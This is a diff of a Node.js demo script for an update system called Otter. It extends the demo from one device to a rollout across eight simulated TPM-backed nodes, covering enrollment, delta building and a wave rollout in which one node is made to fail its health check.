@@ -1,23 +1,32 @@
 #!/usr/bin/env node
-// `make demo`: runs the built api, delta-worker and scheduler on embedded defaults and tells the story of
-// one update, driving the real `bin/otter` CLI and `bin/otter-agent` as child processes, exactly as an
-// operator and a device would. The terminal shows the story; the services log to
-// <OTTER_DATA_DIR>/demo-logs/<app>.log.
+// `make demo`: runs the built api, delta-worker and scheduler on embedded defaults and tells the story of a
+// rollout on one machine: a simulated fleet of 8 nodes, each its own `otter-agent run` process with its own
+// software TPM (swtpm), is enrolled on release 1.0.0; release 1.1.0 is pushed, the delta-worker builds the
+// 1.0.0 → 1.1.0 delta, and a rollout moves the fleet to it in three waves. One node's health check fails
+// after its trial boot: it rolls back, the rollout pauses at its failure threshold, the operator excludes
+// the node and resumes, the rollout completes. The demo drives the real `bin/otter` CLI and
+// `bin/otter-agent` as child processes, exactly as an operator and a device would, and prints the
+// rollout's timeline as it happens. The services log to <OTTER_DATA_DIR>/demo-logs/<app>.log, each node to
+// <OTTER_DATA_DIR>/demo-logs/node-N.log.
 //
 //   OTTER_DATA_DIR   where everything lives (default ./.otter); the demo's own files go to <dir>/demo/
 //   OTTER_PORT       api port (default 8080); the demo refuses to start if it is taken
 //   REDIS_URL        Redis to use; unset: 127.0.0.1:6379 if a Redis answers there, else a redis-server child
 //   OTTER_DEMO_EXIT  1: exit once the story is told (0 if every step passed) instead of serving until Ctrl-C
+//   OTTER_DEMO_DIST_ROOT  run the build in <dir>/dist (with <dir>/package.json and node_modules) instead of
+//                    this repository's dist/: for testing a scratch build; the CLIs run as `node <main.js>`
 //
-// Every run uses its own BullMQ prefix (otter-demo-<pid>-<random>) so it never meets another user of the
-// same Redis, and removes its queues from that Redis when it stops. Re-running on the same data dir works:
-// the images are generated from fixed seeds, so they are byte-identical every run; releases are immutable
-// (a second push is refused with 409 RELEASE_DUPLICATE), so the demo lists what is published first, pushes
-// only what is missing and reports the rest as "already published" once their sha256 matches the image
-// just built.
+// Every run uses its own Redis key prefix (OTTER_QUEUE_PREFIX=otter-demo-<pid>-<random>) so it never meets
+// another user of the same Redis, and removes its keys from that Redis when it stops. Re-running on the same
+// data dir works: the images are generated from fixed seeds, so they are byte-identical every run; releases
+// are immutable (a second push is refused with 409 RELEASE_DUPLICATE), so the demo lists what is published
+// first, pushes only what is missing and reports the rest as "already published" once their sha256 matches
+// the image just built. Each run enrolls a new fleet (new TPMs are new nodes) and labels it with its own
+// `fleet=demo-<random>`, which its rollout selects: nodes of earlier runs stay enrolled but take no part.
 import { spawn } from 'node:child_process';
 import { createCipheriv, createHash, createPrivateKey, createPublicKey, randomBytes } from 'node:crypto';
 import {
+  copyFileSync,
   existsSync,
   mkdirSync,
   openSync,
@@ -29,17 +38,21 @@ import {
 } from 'node:fs';
 import { createServer as createHttpServer } from 'node:http';
 import { createServer as createTcpServer } from 'node:net';
-import { dirname, isAbsolute, join, relative, resolve } from 'node:path';
-import { fileURLToPath } from 'node:url';
+import { basename, delimiter, dirname, isAbsolute, join, relative, resolve } from 'node:path';
+import { fileURLToPath, pathToFileURL } from 'node:url';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { ProcessGroup, ensureRedis, waitForHttp } from './lib/processes.mjs';
+import { createRolloutTimeline, describeDownload, formatBytes } from './lib/rollout-timeline.mjs';
 
 const root = join(dirname(fileURLToPath(import.meta.url)), '..');
+const env = process.env;
+const distRoot = env.OTTER_DEMO_DIST_ROOT ? resolve(env.OTTER_DEMO_DIST_ROOT) : root;
 const APPS = ['api', 'delta-worker', 'scheduler'];
-const entry = (app) => join(root, 'dist', 'apps', app, 'src', 'main.js');
-const OTTER = join(root, 'bin', 'otter');
-const AGENT = join(root, 'bin', 'otter-agent');
+const entry = (app) => join(distRoot, 'dist', 'apps', app, 'src', 'main.js');
+const distLib = (lib) => import(pathToFileURL(join(distRoot, 'dist', 'libs', lib, 'src', 'index.js')).href);
 const REQUIRED_BUILD = [...APPS, 'cli', 'agent'].map(entry);
+/** What a simulated node needs besides Node: swtpm (with swtpm_setup's local CA) and tpm2-tools. */
+const REQUIRED_TOOLS = ['swtpm', 'swtpm_setup', 'swtpm_localca', 'swtpm_ioctl', 'tpm2_startup', 'tpm2_quote'];
 
 const HARDWARE = 'demo-board';
 const BASE_VERSION = '1.0.0';
@@ -53,10 +66,24 @@ const CHANGED_REGIONS = [
   [5 * MIB + 7, 16 * 1024],
 ];
 const APPENDED_BYTES = 256 * 1024;
-const TOTAL_STEPS = 7;
+/** The PCR the (simulated) measured boot extends with the booted slot image's sha256. */
+const BOOT_PCR = 9;
+
+const FLEET_SIZE = 8;
+/** Nodes enrolled at once: each enrollment is a few tpm2-tools calls and two CLI processes. */
+const ENROLL_CONCURRENCY = 4;
+const AGENT_POLL_SECONDS = 1;
+const ROLLOUT_TICK_SECONDS = 1;
+/** Three waves: a canary, then 3 nodes, then the rest. */
+const WAVES = ['1', '3', '100%'];
+/** 1 failed node of wave 2's 3 is 33%: at or above this the rollout pauses. */
+const FAILURE_SHARE = '30%';
+const BAD_NODE_WAVE = 1;
+const FAULT = 'service otterd did not start: /dev/ttyS2: no such device (this board has a fault)';
+
+const TOTAL_STEPS = 9;
 const LOG_TAIL_LINES = 20;
 
-const env = process.env;
 const exitWhenDone = /^(1|true|yes)$/i.test(env.OTTER_DEMO_EXIT ?? '');
 const tty = !!process.stdout.isTTY && !env.NO_COLOR;
 const paint = (code) => (text) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
@@ -74,16 +101,25 @@ const shown = (path) => {
   return rel && !rel.startsWith('..') && !isAbsolute(rel) ? rel : path;
 };
 const seconds = (ms) => `${(ms / 1000).toFixed(1)} s`;
+const OTTER = tool('otter', 'cli');
+const AGENT = tool('otter-agent', 'agent');
+const sha256 = (bytes) => createHash('sha256').update(bytes).digest('hex');
 
-function formatBytes(bytes) {
-  const units = ['B', 'KiB', 'MiB', 'GiB'];
-  let value = bytes;
-  let unit = 0;
-  while (value >= 1024 && unit < units.length - 1) {
-    value /= 1024;
-    unit++;
-  }
-  return unit === 0 ? `${bytes} B` : `${value.toFixed(unit === 1 ? 0 : 1)} ${units[unit]}`;
+/**
+ * The value PCR 9 holds after a boot that measured only an image with this sha256: SHA-256(32 zero bytes ‖
+ * digest), the reset value extended once (as `expectedPcrAfterBoot` in apps/agent/src/platform/measured-boot.ts).
+ * A release carries it as its reference measurement; a node's TPM quote must show it.
+ */
+function pcrAfterBoot(imageSha256) {
+  return sha256(Buffer.concat([Buffer.alloc(32), Buffer.from(imageSha256, 'hex')]));
+}
+
+/** A CLI of this repository: `bin/<name>`, or `node <main.js>` of the build in OTTER_DEMO_DIST_ROOT. */
+function tool(name, app) {
+  const bin = join(root, 'bin', name);
+  return distRoot === root
+    ? { command: bin, prefix: [], label: shown(bin) }
+    : { command: process.execPath, prefix: [entry(app)], label: shown(bin) };
 }
 
 function fail(message) {
@@ -108,6 +144,15 @@ if (missing.length > 0) {
     `not built: ${missing.map((f) => relative(root, f)).join(', ')} (run \`make demo\`, which builds first)`,
   );
 }
+const missingTools = REQUIRED_TOOLS.filter(
+  (name) => !(env.PATH ?? '').split(delimiter).some((dir) => dir && existsSync(join(dir, name))),
+);
+if (missingTools.length > 0) {
+  fail(
+    `not found on PATH: ${missingTools.join(', ')}. The simulated nodes need swtpm and tpm2-tools ` +
+      '(Debian: apt-get install swtpm swtpm-tools tpm2-tools; scripts/bootstrap.sh does it).',
+  );
+}
 const portProblem = await checkPortFree(bindHost, port);
 if (portProblem) {
   const other = port === 65_535 ? 8081 : port + 1;
@@ -120,11 +165,21 @@ if (portProblem) {
   );
 }
 
-const queuePrefix = `otter-demo-${process.pid}-${randomBytes(2).toString('hex')}`;
+const runId = randomBytes(2).toString('hex');
+const queuePrefix = `otter-demo-${process.pid}-${runId}`;
+const fleetLabel = `fleet=demo-${runId}`;
 const demoDir = join(dataDir, 'demo');
+const fleetDir = join(demoDir, 'fleet');
+/** The simulated TPM manufacturer: swtpm's local CA, which issues every node TPM's EK certificate. */
+const manufacturerDir = join(demoDir, 'tpm-manufacturer');
+/** The api's OTTER_TPM_CA_DIR: the manufacturer CA certificates it trusts for enrollment. */
+const tpmTrustDir = join(demoDir, 'tpm-trust');
 const logDir = join(dataDir, 'demo-logs');
 const logFile = (app) => join(logDir, `${app}.log`);
 mkdirSync(logDir, { recursive: true });
+// A new manufacturer and a new fleet every run; the api starts trusting nobody and learns the CA in step 4.
+for (const dir of [fleetDir, manufacturerDir, tpmTrustDir]) rmSync(dir, { recursive: true, force: true });
+mkdirSync(tpmTrustDir, { recursive: true });
 
 // ---- process lifecycle ---------------------------------------------------------------------------------
 
@@ -134,19 +189,35 @@ const serviceEnv = {
   OTTER_DATA_DIR: dataDir,
   OTTER_PORT: String(port),
   OTTER_QUEUE_PREFIX: queuePrefix,
+  OTTER_TPM_CA_DIR: tpmTrustDir,
+  // The scheduler ticks running rollouts this often (default 10 s): waves move at demo speed.
+  OTTER_ROLLOUT_TICK_SECONDS: String(ROLLOUT_TICK_SECONDS),
 };
 let redisStartedHere = false;
 let storyDone = false;
 let exiting = false;
 /** Lines some service logged that a step waits for (see waitForLogLine). */
 const logWatchers = [];
+/** The fleet's software TPMs: swtpm daemonizes, so the process group does not own them. */
+const tpms = [];
+/** The rollout's timeline, printed as it happens (from step 6 on; `fleet` is enrolled in step 4). */
+const timeline = createRolloutTimeline({
+  api,
+  nodeOf: (nodeId) => fleet.find((n) => n.id === nodeId),
+  print: detail,
+  paint: { bold, green, red, yellow },
+  previousVersion: BASE_VERSION,
+  pcr: BOOT_PCR,
+});
 
 /**
  * A log file the process group writes to line by line. Written synchronously so that the tail shown
- * after a failure holds everything the service said up to that moment.
+ * after a failure holds everything the service said up to that moment. `onLine` sees each line without
+ * the `[app] ` prefix.
  */
-function logSink(app) {
+function logSink(app, onLine) {
   const fd = openSync(logFile(app), 'w');
+  const prefix = `[${app}] `;
   return {
     write(text) {
       writeSync(fd, text);
@@ -156,6 +227,7 @@ function logSink(app) {
           watcher.resolve();
         }
       }
+      onLine?.(text.startsWith(prefix) ? text.slice(prefix.length).trimEnd() : text.trimEnd());
       return true;
     },
   };
@@ -183,8 +255,11 @@ async function shutdown(code, reason) {
   if (exiting) return;
   exiting = true;
   if (reason) out(dim(`[demo] ${reason}: stopping every process`));
+  timeline.stop();
+  // Agents and services first (they may still talk to a TPM), then the TPMs.
   await group.stop();
-  await removeDemoQueues();
+  await Promise.all(tpms.map((tpm) => tpm.stop().catch(() => {})));
+  await removeDemoKeys();
   process.exit(code);
 }
 
@@ -194,52 +269,62 @@ for (const sig of ['SIGINT', 'SIGTERM']) {
     if (exiting) {
       out(`[demo] ${sig} again: killing every process`);
       group.kill();
+      killTpms();
       process.exit(130);
     }
     void shutdown(storyDone ? 0 : 130, sig);
   });
 }
+// Last resort (an exception, process.exit): no swtpm daemon outlives the demo.
+process.once('exit', killTpms);
 
-/** Resolves with a description of the first service that exits on its own (never rejects). */
+function killTpms() {
+  for (const tpm of tpms) {
+    try {
+      process.kill(Number(readFileSync(join(dirname(tpm.stateDir), 'swtpm.pid'), 'utf8').trim()), 'SIGKILL');
+    } catch {
+      // stopped already (its directory is gone) or never started
+    }
+  }
+}
+
+/** Resolves with a description of the first service or agent that exits on its own (never rejects). */
 const serviceDied = group.unexpectedExit.then(
   ({ name, code, signal }) =>
     `${name} exited unexpectedly (${signal ? `signal ${signal}` : `exit code ${code}`})`,
 );
 
 /**
- * The queues live under this run's own prefix, so nobody else uses them: obliterating them leaves the
- * shared Redis as it was before the demo. A Redis started by the demo is gone already.
+ * Everything the services keep in Redis (queues, device token ids) lives under this run's own prefix, so
+ * nobody else uses it: deleting it once they stopped leaves the shared Redis as it was before the demo. A
+ * Redis started by the demo is gone already.
  */
-async function removeDemoQueues() {
+async function removeDemoKeys() {
   if (redisStartedHere || !serviceEnv.REDIS_URL) return;
-  let Queue, QUEUES, redisOptions;
+  let Redis;
   try {
-    ({ Queue } = await import('bullmq'));
-    ({ QUEUES, redisOptions } = await import('#otter/queue'));
+    ({ Redis } = await import('ioredis'));
   } catch {
     return;
   }
-  const connection = {
-    ...redisOptions(serviceEnv.REDIS_URL),
+  const redis = new Redis(serviceEnv.REDIS_URL, {
+    lazyConnect: true,
     maxRetriesPerRequest: 1,
     connectTimeout: 2_000,
+  });
+  redis.on('error', () => {});
+  const removeAll = async () => {
+    await redis.connect();
+    for await (const keys of redis.scanStream({ match: `${queuePrefix}:*`, count: 1_000 })) {
+      if (keys.length > 0) await redis.unlink(...keys);
+    }
   };
-  await Promise.race([
-    Promise.all(
-      Object.values(QUEUES).map(async (name) => {
-        const queue = new Queue(name, { connection, prefix: queuePrefix });
-        queue.on('error', () => {});
-        try {
-          await queue.obliterate({ force: true });
-        } catch {
-          // best effort: a few stale keys under a unique prefix harm nobody
-        } finally {
-          await queue.close().catch(() => {});
-        }
-      }),
-    ),
-    sleep(5_000),
-  ]);
+  try {
+    // Best effort: a few stale keys under a unique prefix harm nobody.
+    await Promise.race([removeAll().catch(() => {}), sleep(5_000)]);
+  } finally {
+    redis.disconnect();
+  }
 }
 
 // ---- child commands (the operator's and the device's view) ---------------------------------------------
@@ -255,9 +340,9 @@ const cliEnv = () => {
  * Runs one command and collects its stdout. Its stderr goes to the terminal when that is a TTY (so
  * progress bars draw) and is collected otherwise.
  */
-function run(command, args, { timeoutMs = 60_000, showStderr = tty } = {}) {
+function run(cli, args, { timeoutMs = 60_000, showStderr = tty } = {}) {
   return new Promise((resolvePromise) => {
-    const child = spawn(command, args, {
+    const child = spawn(cli.command, [...cli.prefix, ...args], {
       env: cliEnv(),
       cwd: process.cwd(),
       stdio: ['ignore', 'pipe', showStderr ? 'inherit' : 'pipe'],
@@ -278,13 +363,49 @@ function run(command, args, { timeoutMs = 60_000, showStderr = tty } = {}) {
   });
 }
 
-const commandLine = (command, args) =>
-  [shown(command), ...args.map((a) => (/^[\w./:@=-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`))].join(
-    ' ',
-  );
+/** Runs a command that must succeed; its stdout, or a StepFailure naming the command and its error. */
+async function runOk(cli, args, options = {}) {
+  const result = await run(cli, args, { showStderr: false, ...options });
+  if (result.code !== 0) {
+    throw new StepFailure(
+      `${commandLine(cli, args)} failed (${result.signal ? `signal ${result.signal}` : `exit code ${result.code}`}):\n` +
+        result.stderr.trim(),
+    );
+  }
+  return result.stdout;
+}
 
-function showCommand(command, args) {
-  detail(`${dim('$')} ${cyan(commandLine(command, args))}`);
+const quote = (a) => (/^[\w./:@=%-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`);
+const commandLine = (cli, args) => [cli.label, ...args.map(quote)].join(' ');
+
+function showCommand(cli, args) {
+  detail(`${dim('$')} ${cyan(commandLine(cli, args))}`);
+}
+
+/** Shows a command and what it printed (indented). */
+async function showRun(cli, args, options) {
+  showCommand(cli, args);
+  const stdout = await runOk(cli, args, options);
+  for (const line of stdout.trimEnd().split('\n')) if (line) detail(`  ${line}`);
+  return stdout;
+}
+
+const adminToken = () => readFileSync(join(dataDir, 'admin-token'), 'utf8').trim();
+
+/** One JSON request to the api with the admin token (the demo's own look at state the CLI also shows). */
+async function api(path, { method = 'GET', body } = {}) {
+  const res = await fetch(`${base}${path}`, {
+    method,
+    headers: {
+      authorization: `Bearer ${adminToken()}`,
+      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+    },
+    body: body === undefined ? undefined : JSON.stringify(body),
+    signal: AbortSignal.timeout(15_000),
+  });
+  const text = await res.text();
+  if (!res.ok) throw new StepFailure(`${method} ${path} answered ${res.status}: ${text}`);
+  return JSON.parse(text);
 }
 
 // ---- the story -----------------------------------------------------------------------------------------
@@ -310,6 +431,7 @@ async function step(number, title, body) {
   const took = seconds(performance.now() - started);
   if ('error' in result) {
     const { error } = result;
+    timeline.flush();
     out(red(`  ✗ step ${number}/${TOTAL_STEPS} FAILED: ${title} (${took})`));
     for (const line of String(error instanceof Error ? error.message : error).split('\n')) detail(red(line));
     const logs = error instanceof StepFailure ? error.logs : ['api'];
@@ -318,6 +440,7 @@ async function step(number, title, body) {
     out(red(bold(`demo failed at step ${number}/${TOTAL_STEPS}: ${title}`)));
     await shutdown(1);
   }
+  timeline.flush();
   out(green(`  ✓ step ${number}/${TOTAL_STEPS} OK: ${title} (${took})`));
   return result.value;
 }
@@ -332,8 +455,10 @@ function showLogTail(app) {
 }
 
 const storyStarted = performance.now();
-out(bold('Otter demo: one signed update, from release engineer to device'));
-out(dim(`data dir ${shown(dataDir)} · service logs in ${shown(logDir)}/ · api ${base}`));
+out(
+  bold(`Otter demo: a signed release rolled out to a fleet of ${FLEET_SIZE} TPM-backed nodes, wave by wave`),
+);
+out(dim(`data dir ${shown(dataDir)} · logs in ${shown(logDir)}/ · api ${base}`));
 
 // 1. The server.
 const serverInfo = await step(1, 'Start Otter: api, delta-worker and scheduler', async () => {
@@ -370,6 +495,9 @@ const serverInfo = await step(1, 'Start Otter: api, delta-worker and scheduler',
     throw new StepFailure(error.message, ['api']);
   }
   detail(`api        ${base}/health answers 200 (${seconds(performance.now() - started)})`);
+  detail(
+    `           trusts the TPM manufacturer CAs in ${shown(tpmTrustDir)} (OTTER_TPM_CA_DIR; empty until step 4)`,
+  );
 
   const workerReady = waitForLogLine('delta-worker', /delta-worker started/, 30_000);
   group.start('delta-worker', process.execPath, [entry('delta-worker')], {
@@ -395,6 +523,9 @@ const serverInfo = await step(1, 'Start Otter: api, delta-worker and scheduler',
     throw new StepFailure(error.message, ['scheduler']);
   }
   detail(`scheduler  re-signs TUF metadata before it expires (job every ${resignEvery / 1000} s)`);
+  detail(
+    `           ticks running rollouts every ${ROLLOUT_TICK_SECONDS} s (OTTER_ROLLOUT_TICK_SECONDS; default 10)`,
+  );
 
   const res = await fetch(`${base}/tuf/image/metadata/1.root.json`);
   if (res.status !== 200) throw new StepFailure(`GET /tuf/image/metadata/1.root.json answered ${res.status}`);
@@ -443,169 +574,363 @@ const images = await step(2, `Build two ${HARDWARE} images and their measurement
     [BASE_VERSION, v1],
     [NEXT_VERSION, v2],
   ]) {
-    const sha256 = createHash('sha256').update(bytes).digest('hex');
+    const digest = sha256(bytes);
     const image = join(dir, `${HARDWARE}-${version}.img`);
     const measurements = join(dir, `${HARDWARE}-${version}.measurements.json`);
     writeFileSync(image, bytes);
-    // PCR 9 is where the measured boot extends the OS image's digest; the simulation will compare this.
-    writeFileSync(measurements, `${JSON.stringify({ 9: sha256 }, null, 2)}\n`);
-    built[version] = { version, image, measurements, sha256, length: bytes.length };
-    detail(`${version}  ${shown(image)}  ${formatBytes(bytes.length)}  sha256 ${sha256}`);
+    const pcr = pcrAfterBoot(digest);
+    writeFileSync(measurements, `${JSON.stringify({ [BOOT_PCR]: pcr }, null, 2)}\n`);
+    built[version] = { version, image, measurements, sha256: digest, pcr, length: bytes.length };
+    detail(`${version}  ${shown(image)}  ${formatBytes(bytes.length)}  sha256 ${digest}`);
   }
   const changed = CHANGED_REGIONS.reduce((n, [, len]) => n + len, 0);
   detail(
     `${NEXT_VERSION} is ${BASE_VERSION} with ${CHANGED_REGIONS.length} regions rewritten (${formatBytes(changed)}) ` +
       `and ${formatBytes(APPENDED_BYTES)} appended; seeded, so every run builds the same bytes`,
   );
-  detail(`measurements: ${shown(built[BASE_VERSION].measurements)} etc., PCR 9 = sha256 of the image`);
+  detail(
+    `measurements: ${shown(built[BASE_VERSION].measurements)} etc.: PCR ${BOOT_PCR} = SHA-256(32 zero bytes ‖ ` +
+      `sha256 of the image),`,
+  );
+  detail(`the value a boot that measured only that image leaves; a node's TPM quote must show it`);
   return built;
 });
 
-// 3. Publish.
-const published = await step(3, `Publish both releases with \`otter release push\``, async () => {
+// 3. The first release.
+await step(3, `Publish the first release, ${BASE_VERSION}, with \`otter release push\``, async () => {
   detail(
     dim(
       `the CLI talks to OTTER_SERVER=${base} with the admin token the api wrote to ${shown(join(dataDir, 'admin-token'))}`,
     ),
   );
-  // Releases are immutable (a second push of a version is refused with 409 RELEASE_DUPLICATE), so look
-  // first and push only what an earlier run on this data dir has not published yet. Looking first also
-  // spares a multi-MiB upload that the api refuses before reading it.
-  const existing = await listReleases(true);
-  const known = existing.map((r) => r.version);
-  detail(
-    known.length > 0
-      ? `${HARDWARE} already has ${known.join(', ')}`
-      : `nothing published for ${HARDWARE} yet`,
-  );
-  const releases = {};
-  for (const built of [images[BASE_VERSION], images[NEXT_VERSION]]) {
-    let release = existing.find((r) => r.version === built.version);
-    if (release) {
-      detail(
-        `${yellow(`already published ${HARDWARE} ${built.version}`)} by an earlier run  sha256 ` +
-          `${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)} (pushing again: 409 RELEASE_DUPLICATE)`,
-      );
-    } else {
-      const args = [
-        'release',
-        'push',
-        shown(built.image),
-        '--hardware',
-        HARDWARE,
-        '--version',
-        built.version,
-        '--measurements',
-        shown(built.measurements),
-        '--notes',
-        `Otter demo release ${built.version}`,
-      ];
-      showCommand(OTTER, args);
-      const result = await run(OTTER, args);
-      if (result.code === 0) {
-        release = JSON.parse(result.stdout);
-        detail(
-          green(`published ${release.hardwareId} ${release.version}`) +
-            `  sha256 ${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)}  target ${release.targetPath}`,
-        );
-      } else {
-        // On a TTY the CLI's error went straight to the terminal; otherwise it is in result.stderr.
-        if (result.stderr) for (const line of result.stderr.trimEnd().split('\n')) detail(dim(`  ${line}`));
-        // Someone else may have published it since we looked (409); the check below compares the bytes.
-        release = (await listReleases(false)).find((r) => r.version === built.version);
-        if (!release) {
-          throw new StepFailure(`otter release push ${built.version} failed (exit code ${result.code})`);
-        }
-        detail(
-          `${yellow(`already published ${HARDWARE} ${built.version}`)} meanwhile (409 RELEASE_DUPLICATE)`,
+  return publish(images[BASE_VERSION]);
+});
+
+// 4. The fleet.
+const fleet = await step(
+  4,
+  `Enroll a fleet of ${FLEET_SIZE} nodes on ${BASE_VERSION}, each with its own TPM, and start their agents`,
+  async () => {
+    mkdirSync(fleetDir, { recursive: true });
+    const { startSoftwareTpm } = await distLib('tpm');
+    // The first TPM creates the manufacturer CA; the others only get certificates from it.
+    const started = performance.now();
+    // Each one listed as soon as it runs, so that a failure or Ctrl-C half way stops those started.
+    tpms.push(await startSoftwareTpm({ caDir: manufacturerDir }));
+    await Promise.all(
+      Array.from({ length: FLEET_SIZE - 1 }, async () =>
+        tpms.push(await startSoftwareTpm({ caDir: manufacturerDir })),
+      ),
+    );
+    detail(
+      `${FLEET_SIZE} software TPMs (swtpm) in ${seconds(performance.now() - started)}, ports ` +
+        `${tpms.map((t) => t.port).join(', ')}`,
+    );
+    detail(
+      `each with an EK certificate from one simulated manufacturer CA (swtpm_localca, ${shown(manufacturerDir)})`,
+    );
+    for (const file of tpms[0].ca.certificateFiles) copyFileSync(file, join(tpmTrustDir, basename(file)));
+    detail(
+      `Otter trusts that manufacturer: its root and intermediate certificates copied to ${shown(tpmTrustDir)}`,
+    );
+
+    // What every device is provisioned with: the two TUF roots it will trust from then on.
+    const imageRoot = join(fleetDir, 'image-root.json');
+    writeFileSync(imageRoot, serverInfo.rootText);
+    const directorRoot = join(fleetDir, 'director-root.json');
+    writeFileSync(directorRoot, `${JSON.stringify(await api('/api/v1/tuf/director/root'), null, 2)}\n`);
+    detail(
+      `every node is provisioned with the image repository's root (GET /tuf/image/metadata/1.root.json -> ` +
+        `${shown(imageRoot)})`,
+    );
+    detail(`and the director's (GET /api/v1/tuf/director/root -> ${shown(directorRoot)})`);
+
+    const nodes = tpms.map((tpm, i) => {
+      const dir = join(fleetDir, `node-${i + 1}`);
+      return {
+        name: `node-${i + 1}`,
+        tpm,
+        dir,
+        id: '',
+        slotA: join(dir, 'slot-a.img'),
+        slotB: join(dir, 'slot-b.img'),
+        bootEnv: join(dir, 'bootenv.json'),
+        fault: join(dir, 'fault'),
+        events: [],
+      };
+    });
+    out();
+    detail(
+      `Each node: enroll with its TPM (EK certificate, credential activation), an operator approves it, it ` +
+        `enrolls again to get its identity, and it is labelled ${fleetLabel} (this run's fleet). node-1:`,
+    );
+    const enrollStarted = performance.now();
+    await enroll(nodes[0], true);
+    await mapLimit(nodes.slice(1), ENROLL_CONCURRENCY, (node) => enroll(node, false));
+    detail(
+      `node-2 … node-${FLEET_SIZE}: the same, ${ENROLL_CONCURRENCY} at a time; all ${FLEET_SIZE} active in ` +
+        `${seconds(performance.now() - enrollStarted)}`,
+    );
+    const listed = JSON.parse(await runOk(OTTER, ['node', 'list', '--json'])).nodes ?? [];
+    for (const node of nodes) {
+      const row = listed.find((n) => n.id === node.id);
+      if (!row || row.state !== 'active') {
+        throw new StepFailure(
+          `otter node list shows ${node.name} (${node.id}) as ${row?.state ?? 'missing'}`,
         );
       }
+      detail(`${node.name}  ${node.id}  ${row.state}  TPM ${node.tpm.tcti}`);
     }
-    if (release.sha256 !== built.sha256 || release.length !== built.length) {
-      throw new StepFailure(
-        `the server holds ${HARDWARE} ${built.version} with sha256 ${release.sha256} (${release.length} bytes), ` +
-          `not the image just built (${built.sha256}, ${built.length} bytes). Remove ${shown(dataDir)} or ` +
-          'choose another OTTER_DATA_DIR.',
-      );
-    }
-    if (release.measurements['9'] !== built.sha256) {
-      throw new StepFailure(
-        `release ${built.version} has PCR 9 = ${release.measurements['9']}, not the image's sha256`,
-      );
-    }
-    releases[built.version] = release;
-  }
-  return releases;
-});
 
-// 4. List.
-await step(4, 'List releases with `otter release list`', async () => {
-  const args = ['release', 'list'];
-  showCommand(OTTER, args);
-  const result = await run(OTTER, args, { showStderr: false });
-  if (result.code !== 0) throw new StepFailure(`otter release list failed: ${result.stderr.trim()}`);
-  for (const line of result.stdout.trimEnd().split('\n')) detail(line);
-  for (const version of [BASE_VERSION, NEXT_VERSION]) {
-    const row = new RegExp(
-      `^${HARDWARE}\\s+${version.replace(/\./g, '\\.')}\\s+${published[version].sha256.slice(0, 12)}`,
-      'm',
+    out();
+    detail(
+      `Every node runs ${BASE_VERSION} from slot A (slot B empty) and the update daemon. After a trial boot ` +
+        'its health check runs',
     );
-    if (!row.test(result.stdout))
-      throw new StepFailure(`otter release list does not show ${HARDWARE} ${version}`);
-  }
-});
+    detail(
+      '`test ! -e <node>/fault || { cat <node>/fault >&2; exit 1; }`: healthy unless the demo gives the board a fault.',
+    );
+    for (const node of nodes) {
+      copyFileSync(images[BASE_VERSION].image, node.slotA);
+      writeFileSync(node.slotB, '');
+      const args = [
+        'run',
+        '--state-dir',
+        shown(node.dir),
+        '--root',
+        shown(imageRoot),
+        '--director-root',
+        shown(directorRoot),
+        '--slot-a',
+        shown(node.slotA),
+        '--slot-b',
+        shown(node.slotB),
+        '--boot-env',
+        `file:${shown(node.bootEnv)}`,
+        '--simulate',
+        '--poll-interval',
+        String(AGENT_POLL_SECONDS),
+        '--health-command',
+        `test ! -e ${shown(node.fault)} || { cat ${shown(node.fault)} >&2; exit 1; }`,
+      ];
+      if (node === nodes[0]) showCommand(AGENT, args);
+      node.agent = group.start(node.name, AGENT.command, [...AGENT.prefix, ...args], {
+        env: cliEnv(),
+        cwd: process.cwd(),
+        output: logSink(node.name, (line) => agentLine(node, line)),
+      });
+    }
+    detail(
+      `(and the same for node-2 … node-${FLEET_SIZE}; their output goes to ${shown(logDir)}/node-N.log)`,
+    );
+    // Up: the daemon provisioned its boot environment and the simulated bootloader booted slot A.
+    await until(
+      () => nodes.every((n) => readBootEnv(n)?.otter_booted_slot === 'a'),
+      30_000,
+      'every agent booted slot a',
+      nodes.map((n) => n.name),
+    );
+    detail(
+      green(
+        `${FLEET_SIZE} agents up: booted slot a (${BASE_VERSION}), polling the director every ~${AGENT_POLL_SECONDS} s`,
+      ),
+    );
+    return nodes;
+  },
+);
 
-// 5. The device.
-const device = join(demoDir, 'device');
-const deviceRoot = join(device, 'root.json');
-const target = `images/${HARDWARE}/${NEXT_VERSION}`;
-const download = await step(5, `A device downloads ${target} with \`otter-agent fetch\``, async () => {
-  // A fresh device every run: the story is a first download, not a cached one.
-  rmSync(device, { recursive: true, force: true });
-  mkdirSync(device, { recursive: true });
-  const res = await fetch(`${base}/tuf/image/metadata/1.root.json`);
-  writeFileSync(deviceRoot, await res.text());
-  detail(`provisioned with the trusted root: GET /tuf/image/metadata/1.root.json -> ${shown(deviceRoot)}`);
-  detail(dim('(from here on the device trusts only what that root signs, whoever serves it)'));
-  const outFile = join(device, `${HARDWARE}-${NEXT_VERSION}.img`);
+// 5. The second release and its delta.
+const delta = await step(
+  5,
+  `Publish ${NEXT_VERSION}; the delta-worker builds the ${BASE_VERSION} → ${NEXT_VERSION} delta`,
+  async () => {
+    await publish(images[NEXT_VERSION]);
+    detail(
+      `a new release queues deltas to it from what the nodes run (${BASE_VERSION}) and recent releases; ` +
+        'waiting for the build:',
+    );
+    const to = images[NEXT_VERSION];
+    const args = ['delta', 'list', '--hardware', HARDWARE, '--json'];
+    showCommand(OTTER, args);
+    const started = performance.now();
+    let build;
+    for (;;) {
+      // Versions name exactly these images: step 3 and the push above checked the server's sha256.
+      build = JSON.parse(await runOk(OTTER, args)).deltas.find(
+        (d) => d.from === BASE_VERSION && d.to === NEXT_VERSION,
+      );
+      if (build?.state === 'published') break;
+      if (build && (build.state === 'failed' || build.state === 'too-large')) {
+        throw new StepFailure(`the delta ${build.targetPath} is ${build.state}`, ['delta-worker']);
+      }
+      if (performance.now() - started > 120_000) {
+        throw new StepFailure(
+          `the delta ${BASE_VERSION} → ${NEXT_VERSION} is not published after 120 s ` +
+            `(${build ? `${build.state}, ${build.progress}%` : 'no build recorded'})`,
+          ['delta-worker', 'api'],
+        );
+      }
+      await sleep(500);
+    }
